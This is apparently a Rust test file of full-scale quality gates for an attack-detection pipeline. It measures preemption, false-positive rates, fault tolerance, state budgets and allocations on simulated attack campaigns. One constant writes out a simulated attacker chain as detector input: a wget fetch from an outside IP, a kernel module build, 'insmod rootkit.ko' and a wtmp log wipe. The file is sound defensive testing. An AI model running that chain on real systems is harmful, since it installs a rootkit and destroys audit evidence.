//! Full-scale detection-quality gates of the Fig. 4 pipeline.
//!
//! Each test runs its workload at full scale and asserts the bounds the
//! committed `BENCH_3.json`–`BENCH_10.json` milestones were gated on,
//! unchanged:
//!
//! - the seed-2809840877 campaign (240 mutated attack sessions over ~1M
//!   mostly-benign background records) preempts every family, recovers
//!   the short families under timing dilation and lateral splits, and
//!   degrades gracefully under telemetry and block-delivery faults;
//! - a 1M-entity churn keeps detector state within its budget and
//!   restarts through the snapshot wire format without drift;
//! - reactive attackers and smaller training corpora cost bounded
//!   preemption;
//! - the global-scope inline run and the tenant-scoped service agree
//!   byte for byte;
//! - the warmed symbolize → filter → observe path allocates (almost)
//!   nothing for every detector variant these workloads use.
//!
//! A full-scale gate takes seconds in release and minutes in debug, so a
//! debug build lists every test here as ignored. Run them with
//! `cargo test --release -p bench --test quality_gates`.

use std::collections::HashMap;
use std::sync::OnceLock;

use alertlib::alert::Alert;
use alertlib::{ScanFilter, Symbolizer};
use bench::detection_bytes;
use bhr::api::BhrHandle;
use bhr::retry::FlakyBackend;
use detect::attack_tagger::{AttackTagger, TaggerConfig, TemporalPolicy};
use detect::train::toy_training_model;
use detect::CorrelationPolicy;
use factorgraph::chain::ChainModel;
use scenario::adapt::ReactivePolicy;
use scenario::faults::{BlackoutScope, BlackoutWindow, ClockSkewConfig, FaultInjector, FaultPlan};
use scenario::library::standard_library;
use scenario::mutate::{generate_campaign, Campaign, CampaignConfig, SessionTruth};
use scenario::stream::RecordStreamConfig;
use simnet::alloc_count::{thread_allocations, CountingAllocator};
use simnet::intern::{SymScope, TenantId};
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};
use telemetry::record::{LogRecord, ProcessRecord, RecordKind};
use testbed::adapt::{learning_curve, run_reactive_campaign};
use testbed::stage::{BuiltPipeline, PipelineBuilder, StreamReport};
use testbed::{EvalReport, ServiceConfig, ServiceHandle, ServiceSnapshot, TestbedConfig};

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// The families timing dilation and lateral splits starve first.
const SHORT_FAMILIES: [&str; 2] = ["sqli-webapp", "data-exfil"];
/// Ceiling on a steady-state hot path's allocations per record.
const ALLOC_GATE_PER_RECORD: f64 = 0.05;

/// The detector trained on the standard corpus, trained once.
fn model() -> ChainModel {
    static MODEL: OnceLock<ChainModel> = OnceLock::new();
    MODEL.get_or_init(bench::standard_model).clone()
}

/// The seed-2809840877 campaign: 240 mutated sessions over a 3-day
/// background of ~1M records, at `dilation`. `fanout` splits every
/// non-decoy session across up to that many entities (1: no splits);
/// `None` keeps the default lateral mutation.
fn seed_campaign(dilation: f64, fanout: Option<usize>) -> Campaign {
    let mut cfg = CampaignConfig {
        sessions: 240,
        horizon: SimDuration::from_days(3),
        background: Some(RecordStreamConfig {
            scan_records: 400_000,
            benign_flows: 150_000,
            exec_records: 450_000,
            users: 4_000,
            horizon: SimDuration::from_days(3),
            // Mostly-benign background: the FP-per-million denominator
            // measures false alarms, not planted suspicious load.
            indicative_exec_fraction: 0.02,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    };
    cfg.mutation.dilation = dilation;
    if let Some(fanout) = fanout {
        cfg.mutation.lateral_prob = if fanout > 1 { 1.0 } else { 0.0 };
        cfg.mutation.max_lateral_entities = fanout;
    }
    generate_campaign(&cfg, &mut SimRng::seed(TestbedConfig::default().seed))
}

/// The reference point of the campaign: 2x dilation, generated once.
fn reference_campaign() -> &'static Campaign {
    static CAMPAIGN: OnceLock<Campaign> = OnceLock::new();
    CAMPAIGN.get_or_init(|| seed_campaign(2.0, None))
}

fn campaign_pipeline(cfg: &TestbedConfig) -> PipelineBuilder {
    PipelineBuilder::from_config(cfg, model()).alert_retention(1_000)
}

/// Run `inline` and `sharded` over `records`, assert the two reports
/// agree byte for byte, and return both.
fn inline_and_sharded(
    inline: PipelineBuilder,
    sharded: PipelineBuilder,
    records: &[LogRecord],
) -> (StreamReport, StreamReport) {
    let inline = inline.build().run_inline(records.to_vec());
    let sharded = sharded.build().run_sharded(records.to_vec());
    assert_eq!(
        detection_bytes(&inline),
        detection_bytes(&sharded),
        "sharded detections must be byte-identical to inline"
    );
    assert_eq!(inline.stats, sharded.stats);
    assert_eq!(inline.campaigns, sharded.campaigns);
    assert_eq!(inline.blocks_abandoned, sharded.blocks_abandoned);
    assert_eq!(inline.duplicates_suppressed, sharded.duplicates_suppressed);
    (inline, sharded)
}

fn family_rate(eval: &EvalReport, family: &str) -> f64 {
    eval.families
        .iter()
        .find(|f| f.family == family)
        .map_or(0.0, |f| f.preemption_rate)
}

/// `gate / reference`, reading 0/0 as 1.
fn fp_ratio(gate: f64, reference: f64) -> f64 {
    if reference > 0.0 {
        gate / reference
    } else if gate == 0.0 {
        1.0
    } else {
        f64::INFINITY
    }
}

/// On the campaign at 2x dilation, inline and sharded runs agree, all
/// eight families are scored, most sessions are detected and some are
/// preempted.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn seed_campaign_preempts_every_family() {
    let campaign = reference_campaign();
    let cfg = TestbedConfig::default();
    let (inline, _) = inline_and_sharded(
        campaign_pipeline(&cfg),
        campaign_pipeline(&cfg),
        &campaign.records,
    );
    let eval = testbed::evaluate_campaign(&inline, &campaign.truth);
    assert_eq!(eval.families.len(), 8, "all eight families scored");
    assert!(
        eval.overall.detected > eval.attack_sessions / 2,
        "majority of mutated sessions detected ({}/{})",
        eval.overall.detected,
        eval.attack_sessions
    );
    assert!(eval.overall.preempted > 0, "preemptions observed");
}

/// Timing dilation (low-and-slow evasion) must not starve the short
/// families: at 8x, sqli-webapp and data-exfil preemption stay at or
/// above 70%, and FP/M stays within 1.5x of the 2x reference point.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn dilation_sweep_recovers_short_families_within_fp_budget() {
    let cfg = TestbedConfig::default();
    assert!(
        model().gap_model().is_some(),
        "the standard model carries gap observation tables"
    );
    let mut fp_at_reference = f64::NAN;
    let mut gate = None;
    for dilation in [1.0, 2.0, 4.0, 8.0, 16.0] {
        let campaign = seed_campaign(dilation, None);
        let (inline, _) = inline_and_sharded(
            campaign_pipeline(&cfg),
            campaign_pipeline(&cfg),
            &campaign.records,
        );
        let eval = testbed::evaluate_campaign(&inline, &campaign.truth);
        assert_eq!(eval.dilation, dilation, "eval reports its dilation");
        if dilation == 2.0 {
            fp_at_reference = eval.fp_per_million_background;
        }
        if dilation == 8.0 {
            gate = Some(eval);
        }
    }
    let gate = gate.expect("the sweep covers 8x");
    for family in SHORT_FAMILIES {
        let rate = family_rate(&gate, family);
        assert!(rate >= 0.70, "{family} preemption {rate:.3} at 8x dilation");
    }
    let ratio = fp_ratio(gate.fp_per_million_background, fp_at_reference);
    assert!(ratio <= 1.5, "FP/M at 8x is {ratio:.2}x the 2x reference");
}

/// The monitor outage profile: four 2-hour Notice-monitor blackouts
/// spread over the campaign's 3-day horizon.
fn blackout_plan() -> FaultPlan {
    let start = CampaignConfig::default().start;
    let mut plan = FaultPlan::clean(0xFA_017).named("monitor-blackout");
    for k in 0..4u64 {
        let s = start + SimDuration::from_hours(6 + 18 * k);
        plan = plan.with_blackout(BlackoutWindow {
            start: s,
            end: s + SimDuration::from_hours(2),
            scope: BlackoutScope::Monitor(RecordKind::Notice),
        });
    }
    plan
}

/// 5% duplication, a 64-record reorder window and clock skew.
fn dup_reorder_plan() -> FaultPlan {
    FaultPlan::clean(0xFA_017)
        .named("dup-reorder")
        .with_duplication(0.05)
        .with_reorder(64)
        .with_clock(ClockSkewConfig {
            max_skew: SimDuration::from_secs(30),
            jitter: SimDuration::from_secs(2),
        })
}

/// One point of the fault sweep.
#[derive(Clone, Copy, PartialEq)]
enum Fault {
    Clean,
    Loss(f64),
    /// Blackouts declared to the detector as known outages.
    Blackout,
    /// Duplication and reordering, with the detector's dedup window on.
    DupReorder,
    /// Clean telemetry, but 30% of block RPCs fail transiently.
    FlakyBlocks,
}

fn faulted_pipeline(cfg: &TestbedConfig, name: &str, fault: Fault) -> (PipelineBuilder, BhrHandle) {
    let bhr = if fault == Fault::FlakyBlocks {
        BhrHandle::with_backend(FlakyBackend::new(0.30, 0xB10C_FA11))
    } else {
        BhrHandle::new()
    };
    let b = campaign_pipeline(cfg).bhr(bhr.clone());
    let b = match fault {
        Fault::Clean | Fault::FlakyBlocks => b,
        Fault::Loss(p) => b.faults(FaultPlan::clean(0xFA_017).named(name).with_loss(p)),
        Fault::Blackout => {
            let plan = blackout_plan();
            let spans = plan.blackout_spans();
            b.faults(plan).known_blackouts(spans)
        }
        Fault::DupReorder => {
            let mut temporal = cfg.tagger.temporal.clone();
            temporal.dedup_window = Some(SimDuration::from_mins(5));
            b.faults(dup_reorder_plan()).temporal(temporal)
        }
    };
    (b, bhr)
}

/// Preemption at 10% record loss stays at or above 0.85x clean; with 30%
/// of block RPCs failing no block is lost and preemption drifts at most
/// 5% from clean.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn fault_sweep_degrades_gracefully_and_loses_no_blocks() {
    let cfg = TestbedConfig::default();
    let campaign = seed_campaign(1.0, None);
    let mut preemption = HashMap::new();
    let sweep = [
        ("clean", Fault::Clean),
        ("loss-1pct", Fault::Loss(0.01)),
        ("loss-10pct", Fault::Loss(0.10)),
        ("monitor-blackout", Fault::Blackout),
        ("dup-reorder", Fault::DupReorder),
        ("block-rpc-30pct", Fault::FlakyBlocks),
    ];
    for (name, fault) in sweep {
        let (inline, _) = faulted_pipeline(&cfg, name, fault);
        let (sharded, bhr) = faulted_pipeline(&cfg, name, fault);
        let (inline, sharded) = inline_and_sharded(inline, sharded, &campaign.records);
        let eval = testbed::evaluate_campaign(&inline, &campaign.truth);
        preemption.insert(name, eval.overall.preemption_rate);
        if fault == Fault::FlakyBlocks {
            assert_eq!(sharded.blocks_abandoned, 0, "no block abandoned");
            assert_eq!(
                bhr.active_blocks() as u64,
                sharded.blocked_sources,
                "every decided block lands in the BHR table"
            );
            assert!(
                sharded.blocks_retried > 0 || sharded.blocked_sources == 0,
                "a 30%-failing backend exercises the retry queue"
            );
        }
    }
    let clean = preemption["clean"];
    let (loss_ratio, flaky_drift) = if clean > 0.0 {
        (
            preemption["loss-10pct"] / clean,
            (preemption["block-rpc-30pct"] - clean).abs() / clean,
        )
    } else {
        (1.0, 0.0)
    };
    assert!(
        loss_ratio >= 0.85,
        "preemption at 10% loss is {loss_ratio:.2}x clean"
    );
    assert!(
        flaky_drift <= 0.05,
        "preemption drifts {flaky_drift:.3} from clean under failing block RPCs"
    );
}

/// Would an *unsplit* observer have preempted this session? Replays the
/// session's template steps, merged across hops onto one entity, through
/// a fresh uncorrelated tagger and checks for a detection strictly before
/// the damage step. A split session that fails even this carries too
/// little pre-damage evidence for any observer.
fn counterfactual_unsplit_preempts(
    truth: &SessionTruth,
    model: &ChainModel,
    cfg: &TaggerConfig,
) -> bool {
    let entity: std::net::Ipv4Addr = "198.18.255.254".parse().expect("static address");
    let mut tagger = AttackTagger::new(model.clone(), cfg.clone());
    for &(ts, kind) in &truth.steps {
        let alert = Alert::new(ts, kind, alertlib::alert::Entity::Address(entity));
        if let Some(d) = tagger.observe(&alert) {
            return truth.damage_ts.is_none_or(|damage| d.ts < damage);
        }
    }
    false
}

/// `(recoverable, recovered)` per short family: split sessions an unsplit
/// observer would have preempted, and how many of those the correlated
/// run preempted, by its earliest notification on any hop.
fn split_recovery(
    campaign: &Campaign,
    correlated: &StreamReport,
    cfg: &TaggerConfig,
) -> [(usize, usize); 2] {
    let mut first_detection: HashMap<&str, SimTime> = HashMap::new();
    for note in &correlated.notifications {
        let e = first_detection
            .entry(note.entity.as_str())
            .or_insert(note.detection.ts);
        *e = (*e).min(note.detection.ts);
    }
    let model = model();
    let mut recovery = [(0, 0); 2];
    for s in &campaign.truth.sessions {
        if s.decoy || s.entity_keys.len() < 2 {
            continue;
        }
        let Some(fi) = SHORT_FAMILIES.iter().position(|f| *f == s.family) else {
            continue;
        };
        if !counterfactual_unsplit_preempts(s, &model, cfg) {
            continue;
        }
        recovery[fi].0 += 1;
        let detected = s
            .entity_keys
            .iter()
            .filter_map(|k| first_detection.get(k.as_str()))
            .min();
        if detected.is_some_and(|d| s.damage_ts.is_none_or(|damage| *d < damage)) {
            recovery[fi].1 += 1;
        }
    }
    recovery
}

/// With sessions split across 2 hops, the campaign correlator preempts at
/// least 90% of the sqli-webapp and data-exfil split sessions an unsplit
/// observer would have preempted, within 1.5x the uncorrelated FP/M.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn correlator_recovers_two_hop_splits_within_fp_budget() {
    let plain = TestbedConfig::default();
    let mut correlated = TestbedConfig::default();
    correlated.tagger.correlation = Some(CorrelationPolicy::default());
    for fanout in [1, 2, 3, 4] {
        let campaign = seed_campaign(1.0, Some(fanout));
        let (inline, _) = inline_and_sharded(
            campaign_pipeline(&correlated),
            campaign_pipeline(&correlated),
            &campaign.records,
        );
        let eval = testbed::evaluate_campaign(&inline, &campaign.truth);
        if fanout > 1 {
            assert!(
                eval.overall.lateral.split_sessions > 0,
                "fan-out {fanout} splits sessions"
            );
        }
        if fanout != 2 {
            continue;
        }
        for ((recoverable, recovered), family) in split_recovery(&campaign, &inline, &plain.tagger)
            .into_iter()
            .zip(SHORT_FAMILIES)
        {
            assert!(
                recoverable == 0 || recovered as f64 / recoverable as f64 >= 0.90,
                "{family}: {recovered}/{recoverable} recoverable split sessions preempted"
            );
        }
        let reference = campaign_pipeline(&plain)
            .build()
            .run_inline(campaign.records.clone());
        let reference = testbed::evaluate_campaign(&reference, &campaign.truth);
        let ratio = fp_ratio(
            eval.fp_per_million_background,
            reference.fp_per_million_background,
        );
        assert!(
            ratio <= 1.5,
            "correlated FP/M is {ratio:.2}x the uncorrelated run's"
        );
    }
}

/// Per-entity detector state budget of the churn runs.
const ENTITY_BUDGET: usize = 4096;
/// One S1 chain is woven in per this many benign churn entities.
const ATTACK_EVERY: usize = 1_000;
/// The S1 kernel-module chain (wget → make → insmod → log wipe) every
/// woven-in attacker runs; the toy-trained model detects it.
const S1_CHAIN: [&str; 4] = [
    "wget http://64.215.4.5/abs.c",
    "make -C /lib/modules/4.4/build modules",
    "insmod rootkit.ko",
    "echo 0>/var/log/wtmp",
];

fn exec_record(user: &str, ts: SimTime, cmdline: &str) -> LogRecord {
    LogRecord::Process(ProcessRecord {
        ts,
        host: simnet::topology::HostId(0),
        hostname: "cn01".into(),
        user: user.into(),
        pid: 4_000,
        ppid: 1,
        exe: "/bin/sh".into(),
        cmdline: cmdline.into(),
    })
}

/// 1M distinct users, one benign exec each, one second apart (so state
/// ages past the session timeout and the budget sweep always has dead
/// entries to reclaim), with an S1 chain at a 60 s cadence every
/// [`ATTACK_EVERY`] users. Returns the records and the attacker count.
fn churn_workload() -> (Vec<LogRecord>, usize) {
    let entities = 1_000_000;
    let mut records = Vec::with_capacity(entities + 4 * entities / ATTACK_EVERY + 4);
    let mut attackers = 0;
    for i in 0..entities {
        let base = SimTime::from_secs(i as u64);
        records.push(exec_record(
            &format!("churn{i}"),
            base,
            "cat ~/.bash_history",
        ));
        if i % ATTACK_EVERY == 0 {
            attackers += 1;
            for (k, c) in S1_CHAIN.iter().enumerate() {
                records.push(exec_record(
                    &format!("mallory{attackers}"),
                    base + SimDuration::from_secs(1 + 60 * k as u64),
                    c,
                ));
            }
        }
    }
    records.sort_by_key(|r| match r {
        LogRecord::Process(p) => p.ts,
        _ => SimTime::from_secs(0),
    });
    (records, attackers)
}

fn churn_pipeline(max_entities: usize, scope: SymScope) -> BuiltPipeline {
    PipelineBuilder::new()
        .tagger(AttackTagger::new(
            toy_training_model(),
            TaggerConfig::default(),
        ))
        .temporal(TemporalPolicy {
            session_timeout: Some(SimDuration::from_mins(15)),
            ..TemporalPolicy::default()
        })
        .detect_max_entities(max_entities)
        .scope(scope)
        .build()
}

fn churn_service() -> ServiceHandle {
    ServiceHandle::spawn(ServiceConfig::default(), |_, scope| {
        churn_pipeline(ENTITY_BUDGET, scope)
    })
}

fn ingest_all(service: &ServiceHandle, tenant: TenantId, records: &[LogRecord], batch: usize) {
    for chunk in records.chunks(batch) {
        service
            .ingest(tenant, chunk.to_vec())
            .expect("worker alive");
    }
}

/// Under 1M-entity churn, the budget keeps at most 4096 entities
/// resident without changing a detection, and a restart at half-stream
/// through the snapshot wire format drifts by zero detections.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn churn_keeps_state_bounded_and_restarts_without_drift() {
    let (records, attackers) = churn_workload();
    let unbounded = churn_pipeline(0, SymScope::global()).run_inline(records.clone());
    let bounded = churn_pipeline(ENTITY_BUDGET, SymScope::global()).run_inline(records.clone());
    assert_eq!(
        detection_bytes(&bounded),
        detection_bytes(&unbounded),
        "the entity budget is detection-neutral"
    );
    assert_eq!(bounded.stats, unbounded.stats);
    assert_eq!(
        bounded.stats.detections, attackers as u64,
        "every woven-in S1 chain is detected"
    );

    let tenant = TenantId(8);
    let service = churn_service();
    ingest_all(&service, tenant, &records, ENTITY_BUDGET);
    let snap = service.snapshot(tenant).expect("live tenant");
    let tagger = snap.tagger.as_ref().expect("tagger pipeline");
    assert!(
        tagger.entities.len() <= ENTITY_BUDGET,
        "{} resident entities",
        tagger.entities.len()
    );
    assert!(tagger.entities_evicted > 0, "eviction is active");
    let full = service.evict_tenant(tenant).expect("live tenant");
    drop(service);
    assert_eq!(
        detection_bytes(&full),
        detection_bytes(&bounded),
        "the service run matches the inline run"
    );

    let (head, tail) = records.split_at(records.len() / 2);
    let first = churn_service();
    ingest_all(&first, tenant, head, ENTITY_BUDGET);
    let mid = first.snapshot(tenant).expect("live tenant");
    let head_report = first.shutdown().pop().expect("one live tenant").1;
    let wire = mid.to_json();
    assert!(wire.starts_with("{\"format\":2,"), "a format-2 snapshot");
    let restored = ServiceSnapshot::from_json(&wire).expect("wire decodes");
    assert_eq!(restored, mid, "the wire format round-trips losslessly");
    assert_eq!(restored.to_json(), wire, "re-encoding is byte-identical");

    let second = churn_service();
    second.restore(restored).expect("snapshot fits the factory");
    ingest_all(&second, tenant, tail, ENTITY_BUDGET);
    let tail_report = second.shutdown().pop().expect("one live tenant").1;
    // Counters are cumulative across the restart, so any drift shows
    // against the uninterrupted run.
    assert_eq!(
        tail_report.stats.detections, full.stats.detections,
        "zero detections drift across the restart"
    );
    assert_eq!(tail_report.stats, full.stats);
    assert_eq!(
        detection_bytes(&head_report) + &detection_bytes(&tail_report),
        detection_bytes(&full)
    );
}

/// A model trained on a longitudinal corpus of `incidents` incidents,
/// with critical occurrences in the paper's 98/228 proportion.
fn curve_model(incidents: usize) -> ChainModel {
    let corpus = scenario::generate_corpus(&scenario::LongitudinalConfig {
        total_incidents: incidents,
        critical_occurrences: (98 * incidents / 228).max(1),
        ..scenario::LongitudinalConfig::default()
    });
    detect::train::train(
        &corpus,
        &bench::standard_benign(400),
        &detect::train::TrainConfig::default(),
    )
}

/// Attackers that rotate, stretch and re-split on every observed block
/// keep at least 0.80x of the open-loop preemption, neither arm loses a
/// block, and more training incidents never cost more than 0.10
/// preemption per step, with the full corpus no worse than the smallest.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn reactive_and_learning_curve_gates() {
    let mut cfg = TestbedConfig::default();
    cfg.tagger.correlation = Some(CorrelationPolicy::default());
    // Every session is a real kill chain (no decoys), stretched enough
    // that block decisions land mid-session and feedback matters.
    let mut reactive = CampaignConfig {
        sessions: 120,
        horizon: SimDuration::from_days(2),
        families: standard_library(),
        background: None,
        ..CampaignConfig::default()
    };
    reactive.mutation.decoy_prob = 0.0;
    reactive.mutation.dilation = 4.0;
    let round = SimDuration::from_mins(10);
    let closed = run_reactive_campaign(
        &cfg,
        &reactive,
        model(),
        Some(ReactivePolicy::default()),
        round,
    );
    let open = run_reactive_campaign(&cfg, &reactive, model(), None, round);
    assert_eq!(closed.stream.blocks_abandoned, 0, "closed loop lost blocks");
    assert_eq!(open.stream.blocks_abandoned, 0, "open loop lost blocks");
    let open_p = open.eval.overall.preemption_rate;
    let closed_p = closed.eval.overall.preemption_rate;
    let ratio = if open_p > 0.0 { closed_p / open_p } else { 1.0 };
    assert!(
        ratio >= 0.80,
        "reactive preemption is {ratio:.2}x the open loop's"
    );

    let models: Vec<_> = [20, 60, 120, 228]
        .into_iter()
        .map(|k| (k, curve_model(k)))
        .collect();
    let curve_campaign = CampaignConfig {
        sessions: 120,
        horizon: SimDuration::from_days(2),
        families: standard_library(),
        background: None,
        ..CampaignConfig::default()
    };
    let curve = learning_curve(&cfg, &curve_campaign, &models);
    for w in curve.windows(2) {
        assert!(
            w[1].preemption_rate >= w[0].preemption_rate - 0.10,
            "preemption dips from {:.3} at {} incidents to {:.3} at {}",
            w[0].preemption_rate,
            w[0].corpus_incidents,
            w[1].preemption_rate,
            w[1].corpus_incidents
        );
    }
    let (first, last) = (&curve[0], &curve[curve.len() - 1]);
    assert!(
        last.preemption_rate >= first.preemption_rate,
        "the full corpus preempts no worse than the smallest"
    );
}

/// The seed campaign through the global-scope inline pipeline and
/// through a tenant-scoped service gives byte-identical detections, equal
/// stats and equal campaigns.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn tenant_service_matches_global_inline() {
    let campaign = reference_campaign();
    let cfg = TestbedConfig::default();
    let inline = PipelineBuilder::from_config(&cfg, model())
        .build()
        .run_inline(campaign.records.clone());
    let service = ServiceHandle::spawn(ServiceConfig::default(), move |_, scope| {
        PipelineBuilder::from_config(&cfg, model())
            .scope(scope)
            .build()
    });
    let tenant = TenantId(10);
    ingest_all(&service, tenant, &campaign.records, 4_096);
    let tenant_run = service.shutdown().pop().expect("one live tenant").1;
    assert_eq!(detection_bytes(&inline), detection_bytes(&tenant_run));
    assert_eq!(inline.stats, tenant_run.stats);
    assert_eq!(inline.campaigns, tenant_run.campaigns);
}

/// symbolize → filter, the front every hot-path variant shares.
struct Front {
    sym: Symbolizer,
    filter: ScanFilter,
    alerts: Vec<Alert>,
}

impl Front {
    fn new(sym: Symbolizer, filter: ScanFilter) -> Self {
        Front {
            sym,
            filter,
            alerts: Vec::with_capacity(64),
        }
    }

    fn of(cfg: &TestbedConfig) -> Self {
        Front::new(
            Symbolizer::new(cfg.symbolizer.clone()),
            ScanFilter::new(cfg.filter.clone()),
        )
    }

    /// Symbolize `record` and hand each admitted alert to `observe`.
    fn feed(&mut self, record: &LogRecord, mut observe: impl FnMut(&Alert)) {
        self.alerts.clear();
        self.sym.symbolize_into(record, &mut self.alerts);
        for a in &self.alerts {
            if self.filter.admit(a) {
                observe(a);
            }
        }
    }
}

/// Allocations per record of `pass` over `records` records, counted on
/// this thread after one warm-up pass has built the memo caches, filter
/// windows, entity state and buffer capacity.
fn steady_allocs_per_record(records: usize, mut pass: impl FnMut()) -> f64 {
    pass();
    let (allocs, ()) = thread_allocations(&mut pass);
    allocs as f64 / records as f64
}

/// The standard model's gap tables, on the campaign at 2x and 8x.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn standard_model_hot_path_allocates_nothing_steady() {
    let cfg = TestbedConfig::default();
    let dilated = seed_campaign(8.0, None);
    for campaign in [reference_campaign(), &dilated] {
        let mut front = Front::of(&cfg);
        let mut tagger = AttackTagger::new(model(), cfg.tagger.clone());
        let mut detections = 0u64;
        let per_record = steady_allocs_per_record(campaign.records.len(), || {
            for r in &campaign.records {
                front.feed(r, |a| detections += u64::from(tagger.observe(a).is_some()));
            }
        });
        assert!(detections > 0, "sanity: the hot path detects sessions");
        assert!(
            per_record < ALLOC_GATE_PER_RECORD,
            "{per_record:.6} allocs/record"
        );
    }
}

/// Fault injection (duplication, reordering, skew) ahead of the standard
/// model with its dedup window on.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn faulted_dedup_hot_path_allocates_nothing_steady() {
    let cfg = TestbedConfig::default();
    let campaign = seed_campaign(1.0, None);
    let mut injector = FaultInjector::new(dup_reorder_plan());
    let mut front = Front::of(&cfg);
    let mut tagger_cfg = cfg.tagger.clone();
    tagger_cfg.temporal.dedup_window = Some(SimDuration::from_mins(5));
    let mut tagger = AttackTagger::new(model(), tagger_cfg);
    let mut faulted = Vec::with_capacity(256);
    let per_record = steady_allocs_per_record(campaign.records.len(), || {
        let mut observe = |faulted: &[LogRecord]| {
            for r in faulted {
                front.feed(r, |a| {
                    tagger.observe(a);
                });
            }
        };
        for r in &campaign.records {
            faulted.clear();
            injector.push(*r, &mut faulted);
            observe(&faulted);
        }
        faulted.clear();
        injector.finish(&mut faulted);
        observe(&faulted);
    });
    assert!(
        per_record < ALLOC_GATE_PER_RECORD,
        "{per_record:.6} allocs/record"
    );
}

/// The standard model behind the campaign correlator, on the 2-hop
/// split campaign.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn correlated_standard_model_hot_path_allocates_nothing_steady() {
    let mut cfg = TestbedConfig::default();
    cfg.tagger.correlation = Some(CorrelationPolicy::default());
    let campaign = seed_campaign(1.0, Some(2));
    let mut front = Front::of(&cfg);
    let mut tagger = detect::correlate::correlated_tagger(model(), cfg.tagger.clone());
    let per_record = steady_allocs_per_record(campaign.records.len(), || {
        for r in &campaign.records {
            front.feed(r, |a| {
                tagger.observe(a);
            });
        }
    });
    assert!(
        per_record < ALLOC_GATE_PER_RECORD,
        "{per_record:.6} allocs/record"
    );
}

/// The toy tagger with the 4096-entity budget armed, over 500k records
/// of 512 users cycling well inside the session timeout: at most 7e-6
/// allocations per record.
#[test]
#[cfg_attr(debug_assertions, ignore = "full-scale gate: CI runs it in release")]
fn budget_armed_hot_path_allocates_nothing_steady() {
    let records: Vec<LogRecord> = (0..500_000)
        .map(|i| {
            exec_record(
                &format!("resident{}", i % 512),
                SimTime::from_secs(i as u64),
                "cat ~/.bash_history",
            )
        })
        .collect();
    let mut front = Front::new(Symbolizer::with_defaults(), ScanFilter::default());
    let mut tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
    tagger.set_max_entities(ENTITY_BUDGET);
    let per_record = steady_allocs_per_record(records.len(), || {
        for r in &records {
            front.feed(r, |a| {
                tagger.observe(a);
            });
        }
    });
    assert!(per_record <= 7e-6, "{per_record:.9} allocs/record");
}
